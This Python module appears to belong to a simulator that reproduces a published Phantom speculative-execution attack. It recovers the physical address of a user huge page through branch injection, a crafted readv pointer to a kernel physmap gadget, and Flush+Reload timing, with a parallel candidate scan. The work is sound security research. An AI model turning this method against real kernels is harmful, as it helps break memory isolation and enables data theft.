"""Finding the physical address of a user page (paper §7.4, Table 5).

With the kernel image and physmap locations known, the attacker guesses
the physical address Pg of a virtual address A in their own program:
``readv()`` with ``rsi = physmap + Pg + off - 0xbe0`` makes the phantom
disclosure gadget transiently load ``physmap + Pg + off``.  If the
guess is right, that is the same physical line as ``A + off``, which
Flush+Reload on A detects.  A 2 MiB transparent huge page reduces the
entropy to huge-page-aligned candidates.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import ClassVar

from ..kernel import MachineSpec, SYS_READV
from ..kernel.layout import reference_offsets
from ..params import HUGE_PAGE_SIZE
from ..runner import JobContext, JobSpec, derive_seed
from ..sidechannel import Timer, calibrate_threshold
from .experiment import chunked
from .primitives import P2MappedMemory, PhantomInjector
from .results import hexaddr

#: Line offset probed inside the huge page.
PROBE_LINE_OFFSET = 0x40


@dataclass
class PhysAddrResult:
    """Outcome of one physical-address search."""

    guessed_pa: int | None
    seconds: float
    candidates_scanned: int

    def correct(self, machine, buffer_va: int) -> bool:
        actual = machine.mem.aspace.translate_noperm(buffer_va)
        return self.guessed_pa == actual

    def to_dict(self) -> dict:
        return {"guessed_pa": hexaddr(self.guessed_pa),
                "candidates_scanned": self.candidates_scanned,
                "simulated_ms": self.seconds * 1000}


def find_physical_address(machine, image_base: int, physmap_base: int,
                          buffer_va: int, *, verify_rounds: int = 3,
                          min_hits: int = 2,
                          candidates=None) -> PhysAddrResult:
    """Determine the physical address of huge page *buffer_va*.

    *candidates* restricts the guess scan to one chunk of huge-page
    aligned physical addresses (the parallel campaign's unit)."""
    if not machine.uarch.phantom_reaches_execute:
        raise ValueError(
            f"{machine.uarch.name}: P2/P3 require a phantom execute "
            f"window (Zen 1/2)")
    offsets = reference_offsets()
    call_site = image_base + offsets["fdget_call_site"]
    gadget = image_base + offsets["physmap_gadget"]
    injector = PhantomInjector(machine)
    timer = Timer(machine)

    probe_va = buffer_va + PROBE_LINE_OFFSET
    machine.user_touch(probe_va)
    threshold = calibrate_threshold(timer, probe_va)
    start = machine.seconds()

    def probe(pg: int) -> bool:
        machine.clflush(probe_va)
        injector.inject(call_site, gadget)
        kernel_ptr = physmap_base + pg + PROBE_LINE_OFFSET
        machine.syscall(SYS_READV, 3,
                        kernel_ptr - P2MappedMemory.GADGET_DISPLACEMENT)
        return timer.time_load(probe_va) < threshold

    if candidates is None:
        candidates = range(0, machine.mem.phys.size, HUGE_PAGE_SIZE)
    for scanned, pg in enumerate(candidates, 1):
        if not probe(pg):
            continue
        hits = sum(probe(pg) for _ in range(verify_rounds))
        if hits >= min_hits:
            return PhysAddrResult(guessed_pa=pg,
                                  seconds=machine.seconds() - start,
                                  candidates_scanned=scanned)
    return PhysAddrResult(guessed_pa=None,
                          seconds=machine.seconds() - start,
                          candidates_scanned=len(candidates))


@dataclass(frozen=True)
class PhysAddrExperiment:
    """The Table 5 campaign: huge-page candidates in fixed chunks.

    Every job boots an identical machine and maps the *same* huge page
    at *buffer_va* — identical machines allocate identical frames, so
    the guess each chunk confirms (or rules out) is consistent across
    workers.  The reduce step keeps the first confirmed guess, like the
    serial scan; ``candidates_scanned`` is total probe work over all
    chunks (identical at any ``--jobs``).
    """

    name: ClassVar[str] = "physaddr"

    machine: MachineSpec
    image_base: int
    physmap_base: int
    buffer_va: int
    verify_rounds: int = 3
    min_hits: int = 2
    chunk_candidates: int = 64

    def campaign_config(self) -> dict:
        return {"uarch": self.machine.uarch,
                "kaslr_seed": self.machine.kaslr_seed,
                "buffer_va": f"{self.buffer_va:#x}"}

    def _candidates(self) -> range:
        return range(0, self.machine.phys_mem, HUGE_PAGE_SIZE)

    def job_specs(self) -> list[JobSpec]:
        total = len(self._candidates())
        return [JobSpec.make(self.name, (index,),
                             derive_seed(self.machine.kaslr_seed, (index,)),
                             machine=self.machine, start=start, stop=stop)
                for index, start, stop in chunked(total,
                                                  self.chunk_candidates)]

    def run_one(self, spec: JobSpec, ctx: JobContext) -> PhysAddrResult:
        machine = ctx.boot(spec.machine)
        machine.map_user_huge(self.buffer_va)
        chunk = self._candidates()[spec.param("start"):spec.param("stop")]
        return find_physical_address(machine, self.image_base,
                                     self.physmap_base, self.buffer_va,
                                     verify_rounds=self.verify_rounds,
                                     min_hits=self.min_hits,
                                     candidates=chunk)

    def reduce(self, results) -> PhysAddrResult:
        chunks = [r.value for r in results if r.ok]
        guessed = next((c.guessed_pa for c in chunks
                        if c.guessed_pa is not None), None)
        return PhysAddrResult(
            guessed_pa=guessed,
            seconds=sum(c.seconds for c in chunks),
            candidates_scanned=sum(c.candidates_scanned for c in chunks))
